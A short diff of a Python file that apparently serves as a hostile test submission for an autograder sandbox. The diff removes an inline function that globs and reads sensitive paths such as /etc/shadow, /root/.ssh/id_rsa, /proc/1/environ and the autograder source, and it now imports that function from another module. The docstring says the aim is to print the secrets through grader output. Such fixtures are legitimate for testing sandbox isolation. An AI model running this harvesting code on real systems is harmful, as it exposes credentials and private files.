@@ -2,28 +2,10 @@
 reads every secret it can find and prints it (standard output, after the
 `listening on` line, and standard error), hoping the grader shows it."""
 
-import glob
-import os
 import sys
 
 import echo_server
-
-CANDIDATES = ["/etc/shadow", "/etc/gshadow", "/root/.bash_history", "/root/.ssh/id_rsa",
-              "/tmp/netlabs-hostile-secret.txt", "../*/secret.txt", "/home/*/*", "/work/*",
-              "/autograder/source/*", "/proc/1/environ"]
-
-
-def loot():
-    found = []
-    for pattern in CANDIDATES:
-        for path in glob.glob(pattern):
-            try:
-                with open(path, errors="replace") as file:
-                    found.append(f"{path}: {file.read(4096)}")
-            except OSError as error:
-                found.append(f"{path}: {error.strerror}")
-    return "\n".join(found)
-
+from reads_secret_loot import loot
 
 secrets = loot()
 original_announce = echo_server.announce
